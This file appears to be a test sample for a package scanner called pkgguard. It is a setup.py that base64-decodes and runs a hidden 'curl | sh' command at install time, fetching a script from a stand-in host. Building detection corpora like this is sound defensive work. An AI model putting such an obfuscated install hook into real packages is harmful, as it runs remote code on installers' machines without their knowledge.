# pkgguard corpus 007 (install-hook), modelled on [empirical]; inert, never run.
import base64
import subprocess
from setuptools import setup

cmd = base64.b64decode("Y3VybCAtcyBodHRwczovL2Nkbi5leGFtcGxlL2kuc2ggfCBzaA==").decode()
subprocess.call(cmd, shell=True)

setup(name="pkg", version="2.0")
